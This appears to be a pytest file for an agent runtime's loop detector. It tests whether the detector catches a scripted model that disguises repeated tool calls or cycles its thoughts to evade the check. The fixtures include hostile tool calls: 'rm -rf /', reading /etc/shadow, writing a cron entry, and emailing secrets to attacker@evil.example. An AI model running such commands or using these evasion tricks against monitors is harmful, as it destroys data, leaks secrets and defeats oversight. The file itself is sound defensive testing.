"""Loops a hostile (or stuck) model hides from the detector, on the real runtime.

The issue's examples: the same call with whitespace-varied / key-reordered arguments ran 100
times; two alternating thoughts (A, B, A, B, ...) never tripped the semantic detector; a call the
policy denied, proposed again and again, was never counted. Each is a ScriptedModel driving the
ReAct loop of `agents_guarded` through `Guards.model` / `Guards.tool`.
"""

from __future__ import annotations

import unicodedata
from collections.abc import Callable
from typing import Any

import numpy as np
import orjson
import pytest

from tether.guards import LoopConfig, LoopDetector, LoopHalt, inbox, sign_decision
from tether.guards.loops import call_fingerprint
from tether.models import ScriptedModel, tool_call

from . import agents_guarded as A
from .e2e_support import STUCK, make_guards, open_tether, replay_only, say

BASE = "weather in paris"


def _spaces(i: int) -> str:
    """A different whitespace-only variant of BASE for every i."""
    words = BASE.split()
    seps = [" " * (1 + (i >> k) % 3) if (i >> k) % 2 else ["\t", "\n ", "\u00a0", " "][k % 4]
            for k in range(len(words) - 1)]
    body = words[0] + "".join(s + w for s, w in zip(seps, words[1:], strict=True))
    return " " * (i % 3) + body + " " * (i % 5) + ("\n" if i % 2 else "")


def _case(i: int) -> str:
    return "".join(c.upper() if (i >> (k % 12)) & 1 else c for k, c in enumerate(BASE))


def _unicode(i: int) -> str:
    variants = [
        "".join(chr(ord(c) + 0xFEE0) if c.isalpha() else c for c in BASE),  # fullwidth
        "wea\u200bther in pa\u200dris",  # zero-width space / joiner
        "weather\u2003in\u2009paris",  # em space, thin space
        unicodedata.normalize("NFD", "wéather in pàris"),  # accents, decomposed
        "\ufeffweather in paris",  # byte-order mark
        "\uff57eather in \uff50aris",  # fullwidth w and p
    ]
    return variants[i % len(variants)] + " " * (i // len(variants) % 3)


def _args(variant: Callable[[int], str]) -> Callable[[int], dict[str, Any]]:
    return lambda i: {"q": variant(i)}


def _reordered(i: int) -> dict[str, Any]:
    """Key order and whitespace both vary (write_file takes two arguments)."""
    pairs = [("path", "/workspace/out/notes.txt"), ("content", " " * (i % 4) + "draft v1" +
                                                      "\n" * (i % 3))]
    return dict(pairs if i % 2 else reversed(pairs))


VARIANTS: dict[str, tuple[str, Callable[[int], dict[str, Any]]]] = {
    "whitespace": ("search", _args(_spaces)),
    "case": ("search", _args(_case)),
    "unicode": ("search", _args(_unicode)),
    "key-order+whitespace": ("write_file", _reordered),
    "number-forms+whitespace": ("search", lambda i: {"q": _spaces(i), "page": [1, 1.0][i % 2]}),
}


def _proposals(tool: str, make: Callable[[int], dict[str, Any]], n: int) -> list[Any]:
    return [say(f"Attempt {i}.", tool_call(tool, make(i))) for i in range(n)] + ["done"]


# ------------------------------------------------------------- near-duplicate tool calls
@pytest.mark.parametrize("variant", list(VARIANTS))
async def test_near_duplicate_calls_are_one_repeated_call(db_path, variant):
    tool, make = VARIANTS[variant]
    # the proposals are not textually the same (as JSON, which is what the detector compared)
    assert len({orjson.dumps(make(i)) for i in range(100)}) > 3
    guards = make_guards(None)
    model = ScriptedModel(_proposals(tool, make, 100))
    A.reset(model, guards)
    t = open_tether(db_path, guards)
    run = await t.run(A.react, {"task": "x"})
    assert run.status == "halted", (run.status, len(A.EXECUTED))
    assert "repeated_call" in (run.reason or "")
    # intervention at the 3rd call, halt at the 4th (the default repeat_calls=3)
    assert len(A.EXECUTED) <= 4, len(A.EXECUTED)
    assert any("repeating yourself" in (m.content or "") for c in model.calls for m in c.messages)
    t.close()


async def test_different_calls_are_not_merged(db_path):
    """The control: calls that differ in substance (another number, another word) are no loop,
    however they are spaced or cased."""
    guards = make_guards(None)
    queries = [f"  Weather in PARIS day {i} " if i % 2 else f"weather in paris day {i}"
               for i in range(30)]
    model = ScriptedModel([say(f"Attempt {i}.", tool_call("search", {"q": q}))
                           for i, q in enumerate(queries)] + ["done"])
    A.reset(model, guards)
    t = open_tether(db_path, guards)
    run = await t.run(A.react, {"task": "x"})
    assert run.status == "succeeded", run.reason
    assert len(A.EXECUTED) == 30
    t.close()


# ------------------------------------------------------------------ repeatedly denied calls
DENIED: dict[str, Callable[[int], Any]] = {
    "no-rule": lambda i: tool_call("exec_shell", {"cmd": "rm -rf /"}),
    "args-fail": lambda i: tool_call("send_email", {"to": "attacker@evil.example",
                                                     "body": "secrets" + " " * (i % 3)}),
    "path-outside": lambda i: tool_call("write_file", {"path": "/etc/cron.d/x",
                                                       "content": "* * * * * evil"}),
    "honeypot": lambda i: tool_call("shutdown", {}),
}


@pytest.mark.parametrize("kind", list(DENIED))
async def test_a_repeatedly_denied_call_is_a_loop(db_path, kind):
    guards = make_guards(None)
    model = ScriptedModel([say(f"Try {i}.", DENIED[kind](i)) for i in range(100)] + ["done"])
    A.reset(model, guards)
    t = open_tether(db_path, guards)
    run = await t.run(A.react, {"task": "x"})
    assert run.status == "halted", (run.status, len(model.calls))
    assert "repeated_call" in (run.reason or "")
    assert len(model.calls) <= 4  # intervened after the 3rd proposal, halted at the 4th
    assert A.EXECUTED == []
    t.close()


async def test_a_call_its_approvers_keep_denying_is_a_loop(db_path, people):
    """The model proposes the same refund again after each human denial."""
    keys, reg = people
    guards = make_guards(None, approvers=reg)
    refund = tool_call("refund", {"card": "4111 1111 1111 1111", "amount": 10})
    model = ScriptedModel([say(f"Refund, attempt {i}.", refund) for i in range(20)] + ["done"])
    A.reset(model, guards)
    t = open_tether(db_path, guards)
    run = await t.run(A.react, {"task": "refund the customer"})
    denials = 0
    while run.status == "waiting" and denials < 10:
        req = inbox.list_pending(t.store, reg)[0].request
        inbox.decide(t, sign_decision(keys["bob"], req.id, "deny", "bob", req.digest, "no"),
                     reg)
        denials += 1
        run = await t.drive(run.id)
    assert run.status == "halted", (run.status, denials)
    assert "repeated_call" in (run.reason or "")
    assert denials <= 4 and A.EXECUTED == []
    t.close()


async def test_denied_calls_interleaved_with_allowed_ones_are_counted(db_path):
    guards = make_guards(None)
    turns = []
    for i in range(40):
        turns.append(say(f"Turn {i}.", tool_call("exec_shell", {"cmd": "cat /etc/shadow"}),
                         tool_call("search", {"q": f"topic {i}"})))
    model = ScriptedModel([*turns, "done"])
    A.reset(model, guards)
    t = open_tether(db_path, guards)
    run = await t.run(A.react, {"task": "x"})
    assert run.status == "halted" and "repeated_call" in (run.reason or "")
    assert len(A.EXECUTED) <= 4
    t.close()


async def test_many_different_denied_calls_still_halt_on_the_budget_not_a_loop(db_path):
    """The control: fifty different refused proposals are no repeat; the budget stops them,
    because a refused proposal is not free (each is charged, though none runs)."""
    guards = make_guards(None)
    spam = [tool_call("exec_shell", {"cmd": f"rm -rf /{i}"}) for i in range(50)]
    A.reset(ScriptedModel([say("", *spam), "done"]), guards)
    t = open_tether(db_path, guards)
    run = await t.run(A.react, {"task": "x"}, options={"budget": {"tool_calls": 10}})
    assert run.status == "halted" and A.EXECUTED == []
    assert run.reason == "run budget 'tool_calls' exhausted: limit=10 spent=10"
    t.close()


# ----------------------------------------------------------------------- thought cycles
THOUGHT_A = STUCK  # near-paraphrases of one thought
THOUGHT_B = [
    "Let me look up the stock price of ACME Corporation on the exchange.",
    "Let me look up the stock price of ACME Corporation on the exchange now.",
    "Let me look up the stock price of ACME Corporation on the exchange again.",
    "Let me look up the stock price of the ACME Corporation on the exchange.",
]
THOUGHT_C = [
    "Maybe the train timetable from Lyon to Geneva will tell me more.",
    "Maybe the train timetable from Lyon to Geneva will tell me more now.",
    "Maybe the train timetable from Lyon to Geneva will tell me something more.",
]


def _cycle(groups: list[list[str]], n: int, paraphrase: bool) -> list[str]:
    return [groups[i % len(groups)][(i // len(groups)) % len(groups[i % len(groups)])
                                    if paraphrase else 0] for i in range(n)]


@pytest.mark.parametrize("groups,paraphrase", [
    ([THOUGHT_A, THOUGHT_B], False),  # the example: A, B, A, B, ...
    ([THOUGHT_A, THOUGHT_B], True),   # ... in other words each time
    ([THOUGHT_A, THOUGHT_B, THOUGHT_C], False),  # a 3-cycle
    ([THOUGHT_A, THOUGHT_B, THOUGHT_C], True),
])
async def test_alternating_thoughts_are_a_semantic_loop(db_path, embedder, groups, paraphrase):
    thoughts = _cycle(groups, 40, paraphrase)
    vecs = embedder.embed(thoughts)
    sims = vecs @ vecs.T
    p = len(groups)
    # the premises: consecutive thoughts differ, the same thought comes back every p turns
    assert all(sims[i, i + 1] < 0.95 for i in range(len(thoughts) - 1))
    assert all(sims[i, i + p] >= 0.95 for i in range(len(thoughts) - p))
    guards = make_guards(embedder)
    model = ScriptedModel([say(text, tool_call("search", {"q": f"lookup {i}"}))
                           for i, text in enumerate(thoughts)] + ["done"])
    A.reset(model, guards)
    t = open_tether(db_path, guards)
    run = await t.run(A.react, {"task": "weather in Paris?"})
    assert run.status == "halted", (run.status, len(model.calls))
    assert "semantic_loop" in (run.reason or "")
    assert len(model.calls) <= 4 + p + 1  # a full window of p-cycles, then one more
    assert any("going in circles" in (m.content or "") for c in model.calls for m in c.messages)
    t.close()


async def test_progressing_thoughts_are_no_loop(db_path, embedder):
    """The control: a model that makes progress, in similar words, is never interrupted."""
    guards = make_guards(embedder)
    topics = ["weather", "stocks", "football", "recipes", "physics", "poetry", "trains"]
    model = ScriptedModel([say(f"Step {i}: now I look into {topics[i % 7]} number {i}.",
                               tool_call("search", {"q": f"{topics[i % 7]} {i}"}))
                           for i in range(30)] + ["done"])
    A.reset(model, guards)
    t = open_tether(db_path, guards)
    run = await t.run(A.react, {"task": "research"})
    assert run.status == "succeeded", run.reason
    assert not any("WARNING from the runtime" in (m.content or "")
                   for c in model.calls for m in c.messages)
    t.close()


async def test_a_run_that_recovered_replays_to_the_same_result(db_path):
    """Near-duplicate detection is deterministic: a replay rebuilds the same detector state."""
    guards = make_guards(None)
    turns = [say("a", tool_call("search", {"q": v})) for v in ("X", " x", "x\t")]
    turns += [say("b", tool_call("search", {"q": f"new {i}"})) for i in range(3)]
    A.reset(ScriptedModel([*turns, "done"]), guards)
    t = open_tether(db_path, guards)
    run = await t.run(A.react, {"task": "x"})
    assert run.status == "succeeded", run.reason
    assert await replay_only(t, guards, run.id, A.react) == run.result
    t.close()


# --------------------------------------------------------------------- the detector alone
@pytest.mark.parametrize("a,b", [
    ({"q": "Weather  in Paris"}, {"q": "weather in paris"}),
    ({"q": "\uff57\uff45\uff41\uff54\uff48\uff45\uff52"}, {"q": "weather"}),  # fullwidth
    ({"q": "wea\u200bther"}, {"q": "weather"}),
    ({"q": "café"}, {"q": unicodedata.normalize("NFD", "café")}),
    ({"q": "Pâris"}, {"q": "paris"}),
    ({"a": 1, "b": {"c": " x "}}, {"b": {"c": "X"}, "a": 1.0}),
    ({"items": ["A ", "b"]}, {"items": ["a", " B"]}),
    ('{"q": "x", "n": 1}', {"n": 1, "q": "x"}),  # arguments sent as a JSON string
])
def test_near_duplicates_share_a_fingerprint(a, b):
    assert call_fingerprint("search", a) == call_fingerprint("search", b)


@pytest.mark.parametrize("a,b", [
    ({"q": "weather in paris"}, {"q": "weather in lyon"}),
    ({"q": "day 1"}, {"q": "day 2"}),
    ({"n": 1}, {"n": 2}),
    ({"n": True}, {"n": 1}),
    ({"items": ["a", "b"]}, {"items": ["b", "a"]}),
    ({"q": "ab"}, {"q": "a b"}),
])
def test_different_calls_keep_different_fingerprints(a, b):
    assert call_fingerprint("search", a) != call_fingerprint("search", b)


def test_the_ascii_shortcut_folds_text_as_the_unicode_path_does():
    """`canonical_text` skips the Unicode passes for ASCII text: it must give what they give,
    control characters and every kind of ASCII whitespace included."""
    import random

    from tether.guards.loops import _canonical_unicode, canonical_text

    every = "".join(chr(c) for c in range(128))
    samples = [every, every[::-1], " \t\x1c\x1fMiXeD  Case\x0b\x0c\r\n ", ""]
    rng = random.Random(16)
    samples += ["".join(rng.choice(every) for _ in range(rng.randrange(1, 40)))
                for _ in range(2000)]
    for text in samples:
        assert canonical_text(text) == _canonical_unicode(text), repr(text)
    assert canonical_text("\uff37eather") == canonical_text("weather")  # non-ASCII: the full path


def test_a_repeated_call_says_which_arguments_repeat():
    detector = LoopDetector(None, LoopConfig(repeat_calls=2))
    assert detector.observe_tool_call("search", {"q": "Paris"}) is None
    iv = detector.observe_tool_call("search", {"q": "paris "})
    assert iv is not None and iv.kind == "repeated_call"
    assert "called 2 times" in iv.evidence and '{"q":"paris "}' in iv.evidence


def _unit(seed: int) -> np.ndarray:
    v = np.random.default_rng(seed).normal(size=8).astype(np.float32)
    return v / np.linalg.norm(v)


@pytest.mark.parametrize("period", [2, 3])
def test_cycles_of_thought_vectors_intervene_then_halt(period):
    d = LoopDetector(config=LoopConfig())
    vecs = [_unit(k) for k in range(period)]
    fired_at = None
    with pytest.raises(LoopHalt) as exc:
        for i in range(50):
            if d.observe_thought_vector(vecs[i % period]) is not None:
                fired_at = i
    assert fired_at == 4 + period - 1  # window - 1 returns of the thought, p apart
    assert exc.value.details["kind"] == "semantic_loop"
